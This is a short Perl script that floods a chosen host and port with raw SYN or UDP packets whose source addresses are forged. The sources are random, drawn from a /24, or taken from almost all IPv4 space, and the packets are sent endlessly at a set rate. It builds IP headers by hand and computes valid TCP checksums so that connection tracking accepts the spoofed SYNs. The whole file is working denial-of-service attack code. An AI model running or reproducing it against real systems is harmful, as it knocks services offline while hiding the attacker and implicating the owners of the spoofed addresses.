# Packets with forged sources. `perl flood.pl KIND SOURCES DESTINATION PORT RATE`: KIND is syn or udp; SOURCES an
# address, a /24 as 198.51.100.0/24, or `any`; RATE packets a second, endlessly. Prints `ready` after the first hundred.
use strict;
use warnings;
use Socket;

my ($kind, $sources, $destination, $port, $rate) = @ARGV;
my ($base, $bits) = $sources eq 'any' ? ('1.0.0.0', 2) : ($sources =~ m{^([\d.]+)/(\d+)$}) ? ($1, $2) : ($sources, 32);
my $first = unpack('N', inet_aton($base));
my $span = 2**(32 - $bits);
my $to = inet_aton($destination);
socket(my $socket, PF_INET, SOCK_RAW, 255) or die "socket: $!";
my $address = pack_sockaddr_in(0, $to);

# perl-base has no finer clock; on a busy machine packets are late, but the mean rate is kept.
open(my $clock, '<', '/proc/uptime') or die "/proc/uptime: $!";
sub seconds { seek($clock, 0, 0); return (split ' ', readline $clock)[0] }

my $began = seconds();
my $sent = 0;
while (1) {
  my $due = $rate * (seconds() - $began);
  while ($sent < $due) {
    my $from = pack('N', $first + ($span == 1 ? 0 : int rand $span));
    my $payload = $kind eq 'syn' ? syn($from) : udp();
    my $protocol = $kind eq 'syn' ? 6 : 17;
    my $ip = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $payload, 0, 0, 64, $protocol, 0, $from, $to);
    send($socket, $ip . $payload, 0, $address);
    if (++$sent == 100) { $| = 1; print "ready\n" }
  }
  select(undef, undef, undef, 0.01);
}

# UDP's checksum may be left out; conntrack verifies that of TCP.
sub udp { return pack('nnnn', 1024 + int rand 60000, $port, 8, 0) }

sub syn {
  my ($from) = @_;
  my @header = (1024 + int rand 60000, $port, int rand 2**32, 0, 0x5002, 64240);
  my $sum = unpack('%32n*', $from . $to . pack('nn', 6, 20) . pack('nnNNnn', @header));
  $sum = ($sum >> 16) + ($sum & 0xffff) for 1 .. 2;
  return pack('nnNNnnnn', @header, ~$sum & 0xffff, 0);
}
